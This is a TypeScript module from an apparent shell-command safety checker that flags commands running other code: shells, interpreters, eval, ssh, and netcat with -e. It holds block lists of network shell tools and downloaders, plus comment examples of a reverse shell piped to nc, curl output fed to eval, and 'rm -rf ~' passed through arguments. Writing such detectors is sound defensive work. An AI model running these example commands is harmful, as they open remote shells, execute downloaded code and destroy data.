// Checks for commands that run other code: shells and interpreters (sh -c, python -c, a script on standard
// input), eval, su -c, ssh HOST CMD, watch, and network tools that hand out a shell. Pure.
import { lineEditing } from '../engine/line-editing.js';
import { parseFlags, type Argv } from '../engine/argv.js';
import { literal, type Word } from '../engine/words.js';
import { checkWrite } from './files.js';
import { wasDownloaded } from './fetched.js';
import { show, stdinIsDynamic, stdinText, STDIN_PATHS, when, whenArg } from './types.js';
import type { Check, CheckContext, Io, Origin } from './types.js';
import { interpreterLoads } from '../programs/loaders/preloads.js';
import { makeLanguage, runnerFile } from '../programs/build/task-runners.js';
import { optionValues } from '../engine/long-options.js';
import { pythonModuleRuns } from '../programs/loaders/python-modules.js';
import { screen, tmux } from '../programs/interpreters/terminals.js';
import { keyTable, names } from '../engine/names.js';

const SHELLS = new Set(['sh', 'bash', 'zsh', 'dash', 'ksh', 'mksh', 'ash', 'fish', 'csh', 'tcsh', 'yash', 'rbash']);
export const DOWNLOADERS = new Set(['curl', 'wget', 'fetch', 'aria2c', 'http', 'https', 'xh', 'lwp-request', 'GET']);
const NETWORK_TOOLS = new Set(['nc', 'ncat', 'netcat', 'telnet', 'socat', 'cryptcat']);

interface Interpreter {
  codeOpts: readonly string[];
  language: string;
}
const interpreterSpec = (language: string, codeOpts: string): Interpreter => ({ codeOpts: names(codeOpts), language });

/** Interpreter name → the option that gives code on the command line. */
const INTERPRETERS = keyTable<Interpreter>({
  python: interpreterSpec('python', '-c'),
  // TypeScript runners (tsx, ts-node, esno) run a file like node does.
  'node nodejs tsx ts-node ts-node-esm': interpreterSpec('javascript', '-e --eval -p --print'),
  deno: interpreterSpec('javascript', 'eval'),
  'bun esno': interpreterSpec('javascript', '-e --eval'),
  perl: interpreterSpec('perl', '-e -E'),
  ruby: interpreterSpec('ruby', '-e'),
  lua: interpreterSpec('lua', '-e'),
  php: interpreterSpec('php', '-r'),
});

const LIBRARY_OPTS = keyTable<string[]>({
  ruby: ['-r', '-I'],
  perl: ['-M', '-m', '-I'],
  javascript: ['-r', '--require', '--import', '--loader'],
  python: ['-W', '-X'],
});

export function interpreterOf(name: string): Interpreter | undefined {
  // A versioned name (python3.12, perl5.36) is the interpreter's.
  const base = name.replace(/^(python|perl|ruby|php|lua)[\d.]*$/, '$1');
  return Object.hasOwn(INTERPRETERS, base) ? INTERPRETERS[base] : undefined;
}

export const runsCode = (name: string | null): boolean =>
  name !== null && (SHELLS.has(name) || interpreterOf(name) !== undefined);

/** Index of the first operand: options (and the values of `valueOpts`) come before it; `--` ends them. */
export function firstOperand(args: Word[], valueOpts: readonly string[]): number {
  let i = 0;
  while (i < args.length && args[i]!.text.startsWith('-')) {
    if (args[i]!.text === '--') return i + 1;
    i += valueOpts.includes(args[i]!.text) ? 2 : 1;
  }
  return i;
}

/**
 * Tools that print shell set-up code to be eval'd (version managers, prompts, agents, completions), called by name or
 * by an installed path with literal arguments: `eval "$(ssh-agent -s)"`, `eval "$(brew shellenv)"`.
 */
const SHELL_INIT =
  /^(\/(usr|opt|home\/linuxbrew)\/[\w./-]*\/)?(ssh-agent(\s+-[sck])?|(py|rb|nod|go|pl|j|php|swift|sc|lua)env\s+(init|virtualenv-init)(\s+-)?(\s+\w+)?|direnv\s+(hook|export)\s+\w+|brew\s+shellenv(\s+\w+)?|(conda|micromamba|mamba)\s+shell\.\w+\s+hook|(micromamba|mamba)\s+shell\s+hook(\s+(-s|--shell)\s+\w+)?|fnm\s+env(\s+--[\w-]+)*|(zoxide|starship|atuin|mcfly|oh-my-posh|navi)\s+init\s+\w+(\s+--[\w-]+)*|(mise|rtx)\s+activate\s+\w+|opam\s+env(\s+--[\w-]+)*|luarocks\s+path|dircolors(\s+-[bc])?|keychain\s+--eval(\s+[\w.-]+)*|(kubectl|helm|gh|npm|rustup|poetry|pip)\s+completion(\s+-s)?\s+\w+|thefuck\s+--alias|fzf\s+--(bash|zsh)|gnome-keyring-daemon\s+--start(\s+--[\w,=-]+)*)$/;

/** `"$(TOOL init ...)"` or a backquoted one, with a shell set-up tool and nothing else computed. */
function shellInit(w: Word): boolean {
  const m = /^"?(?:\$\(([^()`$]*)\)|`([^`$]*)`)"?$/.exec(w.text);
  const inner = (m?.[1] ?? m?.[2])?.trim();
  return inner !== undefined && SHELL_INIT.test(inner);
}

/** GNU parallel's options that take a value (the common ones; `--opt=v` is one word). */
export const PARALLEL_VALUES = names(`-j --jobs -S --sshlogin -d --delimiter -N -n --max-args -L --max-lines -I -E --eof
  --joblog --results --colsep -C --tmpdir --workdir --wd --timeout --retries --memfree --load --delay --basefile --env
  --tagstring --tag-string --halt --sshloginfile --slf --shebang-wrap --block --recstart --recend --ungroup --rpl --tee
  --filter -P --max-procs --id`);

/** GNU parallel's replacement strings: `{}`, `{.}`, `{/}`, `{//}`, `{/.}`, `{#}`, `{%}`, `{1}`, `{2.}`... */
export const REPLACEMENT = /\{(\d*(\.|\/\/?|\/\.)?|#|%)\}/g;

export { STDIN_PATHS };

/** Standard input that carries a program: downloaded, decoded, or literal text. */
function stdinProgram(cmd: Argv, io: Io, ctx: CheckContext, language: string | null, origin?: Origin): void {
  const fedBy = (tools: ReadonlySet<string>): boolean => io.upstream.some((u) => tools.has(u.argv?.name ?? ''));
  if (fedBy(DOWNLOADERS)) ctx.add('remote-code-exec', show(cmd));
  if (io.upstream.some((u) => u.argv !== null && isDecoder(u.argv))) ctx.add('decoded-to-shell', show(cmd));
  if (fedBy(NETWORK_TOOLS)) ctx.add('reverse-shell', show(cmd));
  if (stdinIsDynamic(io)) ctx.add('dynamic-command', `${show(cmd)} runs text computed at run time`);
  const text = ctx.knownText(io);
  // Known text is judged as the program reads it: commands, a task runner's file (`make -f - <<EOF`), code.
  if (text !== undefined && language === null) return ctx.script(text);
  if (text !== undefined) return void (runnerFile('-', text, language!, ctx) || ctx.code(text, language!, origin));
  // Not known text: a file (`sh < x.sh`, `cat x.sh | sh`) is read; what another program prints asks.
  const last = io.upstream.at(-1)?.argv;
  const catFile = last?.name === 'cat' ? last.args.filter((a) => !a.text.startsWith('-')) : [];
  if (io.upstream.length === 0 && io.stdinFile && !ctx.substitutionInput(io.stdinFile))
    ctx.runsFile(io.stdinFile, language, undefined, origin);
  else if (catFile.length === 1) ctx.runsFile(catFile[0]!, language, undefined, origin);
  else if (io.upstream.length > 0 && !stdinIsDynamic(io))
    ctx.add('dynamic-command', `${show(cmd)} runs what ${last?.written ?? 'an earlier command'} prints`);
}

/** Command text that decodes hidden data: base64 -d, xxd -r, rev, tr, openssl -d. */
const DECODES =
  /\b(base64|base32|basenc)\b[^|]*\s(-d|-D|--decode)\b|\bxxd\b[^|]*\s-r|\|\s*(rev|tr)\b|\bopenssl\b[^|]*\s-d\b|\buudecode\b/;

function isDecoder(a: Argv): boolean {
  const f = parseFlags(a.args);
  if (a.name === 'base64' || a.name === 'base32' || a.name === 'basenc')
    return f.short.has('d') || f.short.has('D') || f.long.has('--decode');
  if (a.name === 'tr') return true; // rot13 and other substitutions hide text as well as base64 does
  if (interpreterOf(a.name ?? '') && a.args.some((w) => w.text === 'base64' || w.text === 'codecs')) return true;
  if (a.name === 'xxd') return f.short.has('r') || f.long.has('--revert');
  if (a.name === 'openssl') return a.args.some((w) => w.text === '-d' || w.text === '-decode');
  return a.name === 'uudecode' || a.name === 'rev';
}

export function execChecks(
  downloads: (node: Word['substitutions'][number]) => boolean,
): (name: string) => Check | undefined {
  /** A command inside the arguments' substitutions downloads something (`sh -c "$(curl ...)"`). */
  const substitutesDownload = (cmd: Argv, ctx: CheckContext): void => {
    if (cmd.args.some((w) => w.substitutions.some(downloads))) ctx.add('remote-code-exec', show(cmd));
  };

  const shell: Check = (cmd, io, ctx) => {
    const f = parseFlags(cmd.args, ['-o', '+o', '-O', '+O', '--rcfile', '--init-file']);
    // bash --rcfile FILE / --init-file FILE: an interactive shell runs FILE first.
    const rc = f.values.get('--rcfile') ?? f.values.get('--init-file');
    if (rc !== undefined) ctx.runsFile(literal(rc), null);
    const operands = f.operands.filter((w) => !/^\+[a-zA-Z]+$/.test(w.text));
    substitutesDownload(cmd, ctx);
    // `bash -n FILE` (noexec) only parses the script: a syntax check runs nothing.
    if ((f.short.has('n') || f.values.get('-o') === 'noexec') && !f.short.has('c') && !f.short.has('s')) return;
    if (f.short.has('c')) {
      // sh -c STRING [name args...]: the first operand is the script (re-read only when it is known text).
      const script = operands[0];
      // Its commands read the shell's standard input (`bash -c 'source /dev/stdin' < x.sh`).
      // The words after it are its $0, $1, ... even where they look like options (`bash -c '"$@"' _ rm -rf ~`).
      const positional = script ? cmd.args.slice(cmd.args.indexOf(script) + 1) : [];
      if (script && !script.dynamic) ctx.script(withPositional(script.text, positional), io);
      else if (script) {
        // sh -c "$(echo ... | base64 -d)": the script is decoded at run time.
        if (script.substitutions.some((n) => DECODES.test(n.text))) ctx.add('decoded-to-shell', show(cmd));
        ctx.computed(script, `${cmd.written} -c`);
      }
      return;
    }
    const first = operands[0];
    if (first && wasDownloaded(ctx.downloaded, first.text))
      ctx.add('remote-code-exec', `${show(cmd)}: the script was downloaded in this command line`);
    // bash <(...) and sh < <(...): the substitution's output is the program.
    const fromSubstitution =
      (first && ctx.substitutionInput(first)) ?? (io.stdinFile && ctx.substitutionInput(io.stdinFile));
    if (fromSubstitution) stdinProgram(cmd, fromSubstitution, ctx, null);
    else if (!first || f.short.has('s') || first.text === '-' || STDIN_PATHS.test(first.text)) {
      // An interactive shell (`bash -i`) reads its input through readline and history expansion.
      const typed = f.short.has('i') ? ctx.knownText(io) : undefined;
      const edited = typed === undefined ? undefined : lineEditing(typed);
      if (edited !== undefined) ctx.add('line-editing', edited);
      stdinProgram(cmd, io, ctx, null);
    } else ctx.runsFile(first, null);
  };

  const interpreter: Check = (cmd, io, ctx) => {
    const spec = interpreterOf(cmd.name!)!;
    substitutesDownload(cmd, ctx);
    // node -pe CODE is -p and -e: the code is the next word.
    const args = cmd.args.map((a) =>
      spec.language === 'javascript' && /^-[pe]{2}$/.test(a.text) ? { ...a, text: '-e' } : a,
    );
    // Library options take a value (ruby -rnet/http, perl -MMIME::Base64, node -r ts-node/register): not code flags.
    const f = parseFlags(args, [
      ...spec.codeOpts.filter((o) => o.startsWith('-')),
      ...(LIBRARY_OPTS[spec.language] ?? []),
    ]);
    const code = spec.codeOpts.map((o) => f.values.get(o)).find((v) => v !== undefined);
    if (spec.codeOpts.includes('eval') && cmd.args[0]?.text === 'eval' && cmd.args[1])
      ctx.code(cmd.args[1].text, spec.language);
    // perl -i / ruby -i edit the named files in place.
    if (f.short.has('i') && (spec.language === 'perl' || spec.language === 'ruby'))
      for (const file of f.operands) checkWrite(file, show(cmd), ctx);
    // deno run FILE, bun run FILE: the file is after the subcommand (bun run SCRIPT is a package.json script).
    const runFirst =
      /^(deno|bun)$/.test(cmd.name ?? '') && f.operands[0]?.text === 'run' && /[./]/.test(f.operands[1]?.text ?? '');
    const first = runFirst ? f.operands[1] : f.operands[0];
    const fromSubstitution = first && ctx.substitutionInput(first);
    const codeWord = spec.codeOpts
      .map((o) => args.find((_, i) => i > 0 && args[i - 1]!.text === o))
      .find((w) => w !== undefined);
    // python -m MODULE ARGS is the module's own command line: judged as that command (python -m twine upload).
    const m = spec.language === 'python' ? args.findIndex((a) => a.text === '-m') : -1;
    if (m >= 0 && args.slice(0, m).every((a) => a.text.startsWith('-')) && args[m + 1] && !args[m + 1]!.dynamic) {
      // timeit, cProfile, pdb, runpy, code...: the module runs code or a program given in its own arguments (judged
      // first: the module's command line below names its words, and a module named before it is loaded would ask).
      pythonModuleRuns(
        args[m + 1]!.text,
        args.slice(m + 2),
        ctx,
        (rest) => ctx.argv([literal(cmd.written), literal('-m'), ...rest], io),
        () => stdinProgram(cmd, io, ctx, 'python'),
      );
      ctx.argv(args.slice(m + 1));
    }
    // The program given inline, on standard input, or by path (python -m runs an installed or project module).
    const pythonModuleOrCode = spec.language === 'python' && (f.short.has('m') || f.short.has('c'));
    const inline =
      code !== undefined || codeWord !== undefined || !first || first.text === '-' || first.text === '/dev/stdin';
    const origin = interpreterLoads(cmd, spec.language, ctx, inline || pythonModuleOrCode);
    if (codeWord?.dynamic) ctx.computed(codeWord, `${cmd.written} ${spec.codeOpts[0]}`, spec.language);
    else if (code !== undefined) ctx.code(code, spec.language, origin);
    else if (fromSubstitution) stdinProgram(cmd, fromSubstitution, ctx, spec.language);
    else if (!first || first.text === '-' || STDIN_PATHS.test(first.text))
      stdinProgram(cmd, io, ctx, spec.language, origin);
    // python -m MODULE runs a module (read above), not a file; anything else is the script's path.
    else if (!pythonModuleOrCode && !/^(repl|test|run|install)$/.test(first.text))
      ctx.runsFile(first, spec.language, undefined, origin);
  };

  const evalCheck: Check = (cmd, io, ctx) => {
    if (cmd.args[0]?.text === '--') cmd = { ...cmd, args: cmd.args.slice(1) };
    substitutesDownload(cmd, ctx);
    // eval "$(tool init)" runs generated code whose commands cannot be seen: it asks; known text is re-read.
    // What it runs reads eval's standard input (`curl … | eval sh`).
    if (cmd.args.every((a) => !a.dynamic)) ctx.script(cmd.args.map((a) => a.text).join(' '), io);
    // eval "$(pyenv init -)": the set-up code an installed tool prints for the shell is trusted like the tool itself.
    else for (const a of cmd.args.filter((w) => w.dynamic && !shellInit(w))) ctx.computed(a, 'eval');
  };

  const source: Check = (cmd, io, ctx) => {
    substitutesDownload(cmd, ctx);
    const first = cmd.args[0];
    if (first && wasDownloaded(ctx.downloaded, first.text))
      ctx.add('remote-code-exec', `${show(cmd)}: the script was downloaded in this command line`);
    const fromSubstitution = first && ctx.substitutionInput(first);
    if (fromSubstitution) stdinProgram(cmd, fromSubstitution, ctx, null);
    else if (first && STDIN_PATHS.test(first.text)) stdinProgram(cmd, io, ctx, null);
    else if (first) ctx.runsFile(first, null);
  };

  /** su -c CMD: a command line handed to a shell (`script -c CMD` is judged in fed-shells.ts). */
  const su: Check = (cmd, _io, ctx) => {
    const f = parseFlags(cmd.args, names('-c --command -s --shell -g --group -G -u --user'));
    const c = f.values.get('-c') ?? f.values.get('--command');
    if (c !== undefined) ctx.script(c);
  };

  const SSH_VALUE_OPTS = names(`-p -i -l -o -F -J -L -R -D -b -c -e -m -O -Q -S -W -w -E -B -I`);
  const ssh: Check = (cmd, io, ctx) => {
    // Options, the host, more options (ssh reads them after the host too), then the remote command.
    const at = firstOperand(cmd.args, SSH_VALUE_OPTS);
    const after = cmd.args.slice(at + 1);
    const remote = after.slice(after[0]?.text === '--' ? 1 : firstOperand(after, SSH_VALUE_OPTS));
    // Without a command the remote login shell runs standard input; with one, the command reads it.
    if (remote.length === 0) stdinProgram(cmd, io, ctx, null);
    else ctx.script(remote.map((w) => w.text).join(' '), io);
  };

  const watch: Check = (cmd, _io, ctx) => {
    const command = cmd.args.slice(firstOperand(cmd.args, ['-n', '--interval', '-q', '--equexit']));
    if (command.length > 0) ctx.script(command.map((w) => w.text).join(' '));
  };

  /** nc -e / -c / --exec: a program handed to the connection (a shell piped to nc: pipelineShellOverNetwork). */
  const netcat = when('reverse-shell', (_w, cmd) => {
    const f = parseFlags(cmd.args, ['-p', '-s', '-w', '-i', '-x', '-X', '-q']);
    return f.short.has('e') || f.short.has('c') || names('--exec --sh-exec --lua-exec').some((o) => f.long.has(o));
  });

  const trap: Check = (cmd, _io, ctx) => {
    const action = cmd.args.find((a) => !a.text.startsWith('-'));
    // The handler runs later (at exit, on a signal), with the variables set by then (`trap 'rm -rf "$d"' EXIT; d=$(mktemp -d)`).
    // A handler computed at run time (`trap "$x" EXIT`) is judged as its text: an expansion there is a computed command.
    if (action && ctx.atExit) ctx.atExit(() => ctx.script(action.text));
    else if (action) ctx.script(action.text);
  };

  /** A program or script in a directory anyone can write to, or a hidden one: a later job runs what is there then. */
  const RUNS_UNWATCHED_FILE = /(^|[\s;&|])(\/tmp|\/var\/tmp|\/dev\/shm)\/|(^|\s)(\S*\/)?\.[\w-]+\.(py|sh|pl|rb|js)\b/;

  /** at/batch run their standard input later. */
  const at: Check = (cmd, io, ctx) => {
    if (cmd.args.some((a) => a.text === '-l' || a.text === '-r' || a.text === '-c' || a.text === '-d')) return;
    const text = stdinText(io);
    if (text !== undefined) ctx.script(text);
    if (text !== undefined && RUNS_UNWATCHED_FILE.test(text)) ctx.add('schedule-unchecked', show(cmd));
    else if (text === undefined && (cmd.args.some((a) => a.text === '-f') || stdinIsDynamic(io) || io.stdinFile))
      ctx.add('schedule-unchecked', show(cmd));
  };

  /**
   * parallel CMD ::: ARGS: the command once per argument, put in its replacement strings (`'rm -rf {}'`, quoted as
   * parallel does) or after it. `--pipe` gives the command parallel's input; `sem CMD` runs it once.
   */
  const parallel: Check = (cmd, io, ctx) => {
    const sep = cmd.args.findIndex((a) => a.text === ':::');
    const command = cmd.args.slice(firstOperand(cmd.args, PARALLEL_VALUES), sep < 0 ? undefined : sep);
    const values = sep < 0 ? [] : cmd.args.slice(sep + 1);
    const line = command.map((w) => w.text).join(' ');
    const pipe = cmd.args.some((a) => /^--pipe(part)?$/.test(a.text)) ? io : undefined;
    for (const v of values.length > 0 ? values : [undefined])
      if (line.search(REPLACEMENT) >= 0)
        ctx.script(line.replace(REPLACEMENT, `'${(v?.text ?? '').replace(/'/g, `'\\''`)}'`));
      else if (command.length > 0) ctx.argv(v ? [...command, v] : command, pipe);
  };

  /** make -f - or /dev/stdin or <(...): the makefile arrives there (code-in-options.ts reads `-f FILE`). */
  const make: Check = (cmd, io, ctx) => {
    const dir = optionValues(cmd.args, ['-C', '--directory'])[0]?.text;
    for (const w of optionValues(cmd.args, ['-f', '--file', '--makefile'])) {
      const sub = ctx.substitutionInput(w);
      if (sub) ctx.add('dynamic-command', `make reads a makefile computed at run time: ${w.text.slice(0, 80)}`);
      const input = sub ?? (w.text === '-' || STDIN_PATHS.test(w.text) ? io : undefined);
      if (input) stdinProgram(cmd, input, ctx, makeLanguage(cmd, ctx, dir));
    }
  };

  const checks = keyTable<Check>({
    eval: evalCheck,
    'source .': source,
    'su runuser sg': su,
    ssh,
    watch,
    socat: whenArg('reverse-shell', /(^|,\s*)(exec|system):/i),
    trap,
    tmux,
    screen,
    'at batch': at,
    'parallel sem': parallel,
    'make gmake': make,
  });
  for (const s of SHELLS) checks[s] = shell;
  for (const n of NETWORK_TOOLS) if (n !== 'socat') checks[n] = netcat;
  return (name: string) => (Object.hasOwn(checks, name) ? checks[name] : interpreterOf(name) ? interpreter : undefined);
}

/**
 * `sh -c SCRIPT NAME ARG...`: the script's `$1`, `"$@"`, ... are the literal arguments after NAME (find's `{}`,
 * xargs' operands), put in so that what the script does to them can be judged.
 */
function withPositional(script: string, named: Word[]): string {
  if (named.length === 0 || named.some((a) => a.dynamic)) return script;
  // Quoted only where needed: the outer shell has expanded `~` already.
  const quote = (t: string): string => (/^[\w@%+=:,./~-]+$/.test(t) ? t : `'${t.replace(/'/g, `'\\''`)}'`);
  // $0 is NAME, the first word after the script; $1... are the rest.
  const args = named.slice(1);
  const all = args.map((a) => quote(a.text)).join(' ');
  return script
    .replace(/"\$\{?(@|\*)\}?"|\$\{(@|\*)\}|\$(@|\*)/g, all)
    .replace(/"\$\{?([0-9])\}?"|\$\{([0-9])\}|\$([0-9])/g, (m, a?: string, b?: string, c?: string) => {
      const arg = named[Number(a ?? b ?? c)];
      return arg ? quote(arg.text) : m;
    });
}

/** A shell in a pipeline with a network tool (either side) is a reverse shell: `sh -i | nc host 4444`. */
export function pipelineShellOverNetwork(names: (string | null)[]): boolean {
  return names.some((n) => n !== null && SHELLS.has(n)) && names.some((n) => n !== null && NETWORK_TOOLS.has(n));
}
